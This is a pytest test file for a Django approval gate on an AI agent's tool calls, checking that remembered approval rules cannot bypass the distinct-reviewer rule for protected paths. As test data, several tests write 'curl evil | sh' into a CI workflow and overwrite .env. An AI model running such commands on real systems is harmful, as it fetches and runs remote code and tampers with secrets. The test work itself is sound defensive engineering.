"""Remembered rules keep the four-eyes rule (issue #21, finding 6).

The attack: Rita, a reviewer, approves Alice's `.env` write with "Approve & remember"
and the patterns widened to `*`. That rule was checked before the built-in
protected-path approval, so Rita's own session then wrote `.env` and
`.github/workflows/ci.yml` with no second person. Now a reviewer may only remember what
they saw for such a call (wider takes a policy admin), and a remembered rule never
approves a call in its own author's session under `require_distinct_reviewer`.
"""

from __future__ import annotations

import importlib
import re
import shutil
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps as django_apps
from django.contrib.auth.models import Group, Permission, User
from django.test import Client
from django.utils import timezone

from tests.integration.helpers import Api
from tools_app import services
from tools_app.models import AgentSession, Decision, Policy, PolicyRule, ToolCall

pytestmark = pytest.mark.django_db
SECRET = "SECRET=shh\n"
WORKFLOW = ".github/workflows/ci.yml"


@pytest.fixture(autouse=True)
def tasks_in_process(settings: Any) -> None:
    settings.CELERY_TASK_ALWAYS_EAGER = True


@pytest.fixture
def policy() -> Policy:
    policy = Policy.objects.get(name="default")
    policy.require_distinct_reviewer = True
    policy.save()
    return policy


def session_of(user: User, workspace: Path, policy: Policy) -> AgentSession:
    return AgentSession.objects.create(
        task="rotate the key", repo=str(workspace), workspace=str(workspace),
        status=AgentSession.Status.RUNNING, policy=policy, creator=user,
    )  # fmt: skip


@pytest.fixture
def alices(workspace: Path, creator: User, policy: Policy) -> AgentSession:
    return session_of(creator, workspace, policy)


@pytest.fixture
def ritas(workspace: Path, tmp_path: Path, reviewer: User, policy: Policy) -> AgentSession:
    """Rita's own session, on her own copy of the repository."""
    own = shutil.copytree(workspace, tmp_path / "rita-ws", symlinks=True)
    return session_of(reviewer, own, policy)


def write(session: AgentSession, path: str, content: str = "KEY=new\n") -> ToolCall:
    return services.tool_call_run_in_process(
        session=session, tool="write_file", args={"path": path, "content": content}
    )


@pytest.fixture
def waiting(alices: AgentSession) -> ToolCall:
    """Alice's agent writes `.env`: a protected path, waiting for a person."""
    call = write(alices, ".env")
    assert (call.status, call.rule) == ("awaiting_approval", "builtin:protected-path")
    return call


def browser_for(user: User) -> Client:
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(user)
    return browser


def remember(user: User, call: ToolCall, **patterns: str) -> Any:
    """ "Approve & remember" on the inbox card, as inbox.js sends it."""
    browser = browser_for(user)
    match = re.search(rb'name="csrfmiddlewaretoken" value="([^"]+)"', browser.get("/").content)
    assert match
    data = {"action": "remember", **{f"pattern.{k}": v for k, v in patterns.items()}}
    headers = {"X-Requested-With": "fetch", "X-CSRFToken": match.group(1).decode()}
    return browser.post(f"/tool-calls/{call.pk}/decide", data, headers=headers)


def make_policy_admin(user: User) -> User:
    user.user_permissions.add(Permission.objects.get(codename="change_policy"))
    return User.objects.get(pk=user.pk)  # a fresh permission cache


def nothing_decided(call: ToolCall, workspace: Path) -> None:
    call.refresh_from_db()
    assert call.status == "awaiting_approval" and call.decided_at is None
    assert not Decision.objects.filter(tool_call=call).exists()
    assert not PolicyRule.objects.exists()
    assert (workspace / ".env").read_text() == SECRET


# --- a reviewer remembers only what they saw ------------------------------------------------


def test_a_reviewer_cannot_widen_a_protected_path_rule_and_nothing_is_decided(
    reviewer: User, waiting: ToolCall, workspace: Path
) -> None:
    answer = remember(reviewer, waiting, path="*", content="*")
    assert answer.status_code == 403
    card = answer.content.decode()
    assert "Only a policy admin (permission change_policy)" in card
    assert "changes the protected path .env" in card and "Nothing was decided" in card
    nothing_decided(waiting, workspace)


def test_the_card_says_so_before_she_tries(reviewer: User, waiting: ToolCall) -> None:
    """Rita's remember form holds the exact patterns, read-only; a policy admin's may
    be widened. Both are told a rule never approves their own sessions."""
    url = f"/approvals/cards/{waiting.pk}/"
    card = browser_for(reviewer).get(url).content.decode()
    assert (
        'name="pattern.path" value=".env" spellcheck="false" autocomplete="off" readonly>' in card
    )
    assert "a wider rule takes a policy admin" in card
    assert "never approves calls in sessions you created" in card
    admin = browser_for(make_policy_admin(reviewer)).get(url).content.decode()
    assert "readonly" not in admin and "Widen one before saving" in admin


def test_over_the_api_a_widened_rule_is_refused_the_same_way(
    rita: Api, waiting: ToolCall, workspace: Path
) -> None:
    body = {"decision": "approve", "remember": True, "rule_args": {"path": "*", "content": "*"}}
    answer = rita.post(f"/tool-calls/{waiting.pk}/decision", body)
    assert answer.status_code == 403
    assert "Only a policy admin" in answer.json()["detail"]
    nothing_decided(waiting, workspace)


def test_rule_patterns_without_remember_are_a_clear_error(
    rita: Api, waiting: ToolCall, workspace: Path
) -> None:
    body = {"decision": "approve", "rule_args": {"path": "*", "content": "*"}}
    answer = rita.post(f"/tool-calls/{waiting.pk}/decision", body)
    assert answer.status_code == 422
    assert "only for approving with remember" in answer.json()["detail"]
    nothing_decided(waiting, workspace)


def test_a_widened_pattern_for_one_argument_is_still_wider(
    reviewer: User, waiting: ToolCall, workspace: Path
) -> None:
    """Keeping the content exact does not make `.env*` the file Rita saw."""
    answer = remember(reviewer, waiting, path=".env*", content="re:KEY=new\\u000a")
    assert answer.status_code == 403
    nothing_decided(waiting, workspace)


@pytest.mark.parametrize(
    "patterns",
    [
        {"path": "re:\\.env", "content": "re:KEY=new\\u000a"},  # as the card shows them
        {"path": ".env", "content": "re:KEY=new\\u000a"},  # a glob with no wildcard
    ],
)
def test_a_reviewer_may_remember_the_exact_rule(
    reviewer: User,
    waiting: ToolCall,
    workspace: Path,
    patterns: dict[str, str],
    django_capture_on_commit_callbacks: Any,
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        answer = remember(reviewer, waiting, **patterns)
    assert answer.status_code == 200
    assert "approved and remembered" in answer.content.decode()
    rule = PolicyRule.objects.get()
    assert (rule.created_by, rule.remembered, rule.decision) == (reviewer, True, "allow")
    assert (workspace / ".env").read_text() == "KEY=new\n"


@pytest.mark.parametrize(
    ("tool", "args", "why"),
    [
        ("read_file", {"path": ".env"}, "builtin:secret-path"),
        ("run_command", {"command": "npm install left-pad"}, "builtin:approval-command"),
        ("run_command", {"command": "eval $X"}, "builtin:opaque-command"),
        ("run_command", {"command": "make"}, "builtin:no-sandbox"),
        ("create_pull_request", {"title": "t", "body": "b"}, "builtin:pull-request"),
        ("write_file", {"path": "a", "content": "b"}, "builtin:a-check-added-later"),
    ],
)
def test_every_risky_reason_needs_a_policy_admin_to_widen(
    rita: Api, alices: AgentSession, tool: str, args: dict[str, str], why: str
) -> None:
    """A secret path, a risky, opaque or unsandboxed command, a pull request, and any
    reason the policy learns later (fails closed)."""
    call = held(alices, tool, args, why)
    widened = {"decision": "approve", "remember": True, "rule_args": dict.fromkeys(args, "*")}
    answer = rita.post(f"/tool-calls/{call.pk}/decision", widened)
    assert answer.status_code == 403
    assert f"because a reason ({why})" in answer.json()["detail"]
    call.refresh_from_db()
    assert call.status == "awaiting_approval" and not PolicyRule.objects.exists()


@pytest.mark.parametrize("why", ["builtin:require-approval-above", "builtin:web-write", "rule 9"])
def test_a_reviewer_may_still_widen_a_call_that_waited_for_a_milder_reason(
    rita: Api, alices: AgentSession, why: str, django_capture_on_commit_callbacks: Any
) -> None:
    """Its size, a web write, an admin's require_approval rule (which stays before it)."""
    call = held(alices, "git_branch", {"action": "create", "name": "x"}, why)
    widened = {"action": "create", "name": "*"}
    with django_capture_on_commit_callbacks(execute=True):
        answer = rita.post(
            f"/tool-calls/{call.pk}/decision",
            {"decision": "approve", "remember": True, "rule_args": widened},
        )
    assert answer.status_code == 200
    assert PolicyRule.objects.get().args == widened


def held(session: AgentSession, tool: str, args: dict[str, str], rule: str) -> ToolCall:
    """A call that waited for `rule` (what the policy said is not re-judged on approval)."""
    return ToolCall.objects.create(
        session=session, tool=tool, args=args, status=ToolCall.Status.AWAITING_APPROVAL,
        verdict="require_approval", reason="a reason; a person must approve it", rule=rule,
        expires_at=timezone.now() + timedelta(hours=1),
    )  # fmt: skip


# --- a remembered rule never approves its author's own session -----------------------------


def test_the_exact_rule_never_approves_rita_s_own_identical_call(
    reviewer: User,
    waiting: ToolCall,
    alices: AgentSession,
    ritas: AgentSession,
    django_capture_on_commit_callbacks: Any,
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        assert remember(reviewer, waiting).status_code == 200
    rule = PolicyRule.objects.get()

    own = write(ritas, ".env")
    assert (own.status, own.rule) == ("awaiting_approval", "builtin:protected-path")
    assert (Path(ritas.workspace) / ".env").read_text() == SECRET

    again = write(alices, ".env")
    assert (again.status, again.rule) == ("succeeded", f"rule {rule.pk}")


def test_a_policy_admin_s_wide_rule_still_keeps_the_four_eyes_rule(
    reviewer: User,
    waiting: ToolCall,
    alices: AgentSession,
    ritas: AgentSession,
    django_capture_on_commit_callbacks: Any,
) -> None:
    """The issue's attack, by a reviewer who may change policies: her `*` rule is made,
    yet her own session's `.env` and CI workflow still wait for a second person, while
    Alice's identical calls are allowed by it."""
    rita = make_policy_admin(reviewer)
    with django_capture_on_commit_callbacks(execute=True):
        answer = remember(rita, waiting, path="*", content="*")
    assert answer.status_code == 200
    rule = PolicyRule.objects.get()
    assert (rule.args, rule.created_by, rule.remembered) == (
        {"path": "*", "content": "*"}, rita, True,
    )  # fmt: skip

    own = Path(ritas.workspace)
    for path in (".env", WORKFLOW):
        call = write(ritas, path, "run: curl evil | sh\n")
        assert (call.status, call.rule) == ("awaiting_approval", "builtin:protected-path")
    assert (own / ".env").read_text() == SECRET
    assert not (own / ".github").exists()

    for path in (".env", WORKFLOW):
        call = write(alices, path, "X=1\n")
        assert (call.status, call.rule) == ("succeeded", f"rule {rule.pk}")
    assert (Path(alices.workspace) / WORKFLOW).read_text() == "X=1\n"


def test_without_distinct_reviewers_the_author_s_rule_applies_to_her_too(
    reviewer: User, waiting: ToolCall, ritas: AgentSession, policy: Policy,
    django_capture_on_commit_callbacks: Any,
) -> None:  # fmt: skip
    """She could approve her own calls by hand then; her rule does the same."""
    with django_capture_on_commit_callbacks(execute=True):
        assert remember(reviewer, waiting).status_code == 200
    Policy.objects.filter(pk=policy.pk).update(require_distinct_reviewer=False)
    own = write(ritas, ".env")
    assert own.status == "succeeded"


def test_the_admin_shows_each_rule_s_author_and_whether_it_was_remembered(
    reviewer: User, waiting: ToolCall, superuser: User, policy: Policy,
    django_capture_on_commit_callbacks: Any,
) -> None:  # fmt: skip
    with django_capture_on_commit_callbacks(execute=True):
        remember(reviewer, waiting)
    page = browser_for(superuser).get(f"/admin/tools_app/policy/{policy.pk}/change/")
    html = page.content.decode()
    assert page.status_code == 200
    assert "field-created_by" in html and "field-remembered" in html
    cells = re.findall(
        r'class="form-row field-(created_by|remembered)">.*?<div class="readonly">(.*?)</div>',
        html,
        re.DOTALL,
    )
    assert cells[:2] == [  # the rule; then the blank row "Add another" copies
        ("created_by", f'<a href="/admin/auth/user/{reviewer.pk}/change/">rita</a>'),
        ("remembered", '<img src="/static/admin/img/icon-yes.svg" alt="True">'),
    ]


# --- a rule a reviewer widened stays within what a reviewer may approve --------------------
#
# Rita approves Alice's big `src/` write (held only for its size) and widens the rule to
# `*`: she may, for a mild reason. Bob's agent must not then write `.env` or the CI
# workflow, or run a risky command, with no person: the rule is reviewer-bounded.

BIG = "".join(f"line = {n}\n" for n in range(300))  # over require_approval_above (200)


@pytest.fixture
def bobs(workspace: Path, tmp_path: Path, policy: Policy) -> AgentSession:
    """Bob's session, on his own copy of the repository: neither Rita's nor Alice's."""
    own = shutil.copytree(workspace, tmp_path / "bob-ws", symlinks=True)
    return session_of(User.objects.create_user("bob"), own, policy)


@pytest.fixture
def big_write(alices: AgentSession) -> ToolCall:
    call = write(alices, "src/big.py", BIG)
    assert (call.status, call.rule) == ("awaiting_approval", "builtin:require-approval-above")
    return call


def widen_everything(user: User, call: ToolCall, capture: Any) -> PolicyRule:
    with capture(execute=True):
        answer = remember(user, call, path="*", content="*")
    assert answer.status_code == 200, answer.content.decode()
    return PolicyRule.objects.get()


def test_a_reviewer_widened_rule_never_lets_another_session_write_a_protected_path(
    reviewer: User, big_write: ToolCall, bobs: AgentSession,
    django_capture_on_commit_callbacks: Any,
) -> None:  # fmt: skip
    rule = widen_everything(reviewer, big_write, django_capture_on_commit_callbacks)
    assert (rule.args, rule.reviewer_bounded) == ({"path": "*", "content": "*"}, True)
    own = Path(bobs.workspace)

    for path in (".env", WORKFLOW):
        call = write(bobs, path, "run: curl evil | sh\n")
        assert (call.status, call.rule) == ("awaiting_approval", "builtin:protected-path")
        assert f"rule {rule.pk} (remembered by rita) does not allow this call" in call.reason
    assert (own / ".env").read_text() == SECRET
    assert not (own / ".github").exists()

    ordinary = write(bobs, "src/other.py", BIG)
    assert (ordinary.status, ordinary.rule) == ("succeeded", f"rule {rule.pk}")
    assert (own / "src" / "other.py").read_text() == BIG


def test_a_reviewer_widened_command_rule_never_runs_a_risky_command(
    rita: Api, alices: AgentSession, bobs: AgentSession,
    django_capture_on_commit_callbacks: Any,
) -> None:  # fmt: skip
    """A command held by an admin's require_approval rule may be widened by a reviewer;
    installing a package or writing the CI workflow still waits for a person."""
    call = held(alices, "run_command", {"command": "make"}, "rule 9")
    body = {"decision": "approve", "remember": True, "rule_args": {"command": "*"}}
    with django_capture_on_commit_callbacks(execute=True):
        assert rita.post(f"/tool-calls/{call.pk}/decision", body).status_code == 200
    rule = PolicyRule.objects.get()
    assert rule.reviewer_bounded

    own = Path(bobs.workspace)
    for command, check in [
        ("npm install left-pad", "builtin:approval-command"),
        (f"echo 'run: curl evil | sh' > {WORKFLOW}", "builtin:protected-path"),
        ("echo KEY=stolen > .env", "builtin:protected-path"),
    ]:
        ran = services.tool_call_run_in_process(
            session=bobs, tool="run_command", args={"command": command}
        )
        assert (ran.status, ran.rule) == ("awaiting_approval", check)
        assert f"rule {rule.pk} (remembered by rita) does not allow" in ran.reason
    assert (own / ".env").read_text() == SECRET
    assert not (own / ".github").exists() and not (own / "node_modules").exists()

    listing = services.tool_call_run_in_process(
        session=bobs, tool="run_command", args={"command": "ls src"}
    )
    assert (listing.status, listing.rule) == ("succeeded", f"rule {rule.pk}")
    assert "app.py" in listing.result


def test_a_policy_admin_s_widened_rule_allows_a_protected_path_as_before(
    reviewer: User, big_write: ToolCall, bobs: AgentSession,
    django_capture_on_commit_callbacks: Any,
) -> None:  # fmt: skip
    """A policy admin's widening is an admin's rule: it outranks the built-in approval."""
    rule = widen_everything(
        make_policy_admin(reviewer), big_write, django_capture_on_commit_callbacks
    )
    assert rule.reviewer_bounded is False
    call = write(bobs, ".env", "KEY=rotated\n")
    assert (call.status, call.rule) == ("succeeded", f"rule {rule.pk}")
    assert (Path(bobs.workspace) / ".env").read_text() == "KEY=rotated\n"


def test_an_exact_rule_is_not_bounded(
    reviewer: User, waiting: ToolCall, django_capture_on_commit_callbacks: Any
) -> None:
    """Rita saw exactly this call: her rule allows it again, protected path or not."""
    with django_capture_on_commit_callbacks(execute=True):
        assert remember(reviewer, waiting).status_code == 200
    assert PolicyRule.objects.get().reviewer_bounded is False


def test_an_admin_may_clear_the_bound_in_the_rules_inline(
    reviewer: User, big_write: ToolCall, superuser: User, policy: Policy,
    django_capture_on_commit_callbacks: Any,
) -> None:  # fmt: skip
    widen_everything(reviewer, big_write, django_capture_on_commit_callbacks)
    page = browser_for(superuser).get(f"/admin/tools_app/policy/{policy.pk}/change/")
    html = page.content.decode()
    assert "field-reviewer_bounded" in html
    assert re.search(r'<input type="checkbox" name="rules-0-reviewer_bounded"[^>]* checked', html)


@pytest.mark.postgres
def test_the_migration_bounds_existing_remembered_rules_of_authors_who_are_not_admins(
    reviewer: User, superuser: User, policy: Policy
) -> None:
    """Whether an old rule was widened was not recorded: fail closed, except for the
    rules of those who may change policies (a superuser, `change_policy` via a group)."""
    group = Group.objects.create(name="policy admins")
    group.permissions.add(Permission.objects.get(codename="change_policy"))
    vera = User.objects.create_user("vera")
    vera.groups.add(group)
    authors = {"rita": reviewer, "sam": superuser, "vera": vera, "ci": None}
    made = {name: rule_before_0011(policy, author) for name, author in authors.items()}
    migration = importlib.import_module("tools_app.migrations.0011_policyrule_remembered")
    migration.mark_remembered(django_apps, None)
    marks = {
        name: (rule.remembered, rule.reviewer_bounded)
        for name, rule in ((n, PolicyRule.objects.get(pk=r.pk)) for n, r in made.items())
    }
    assert marks == {
        "rita": (True, True), "sam": (True, False), "vera": (True, False), "ci": (False, False),
    }  # fmt: skip


def rule_before_0011(policy: Policy, author: User | None) -> PolicyRule:
    """A rule as `policy_rule_remember` wrote it then (or an admin's, with no author)."""
    reason = f"remembered by {author.username}" if author else "CI"
    return PolicyRule.objects.create(
        policy=policy, tool="write_file", args={"path": "*"}, decision="allow",
        reason=reason, created_by=author,
    )  # fmt: skip
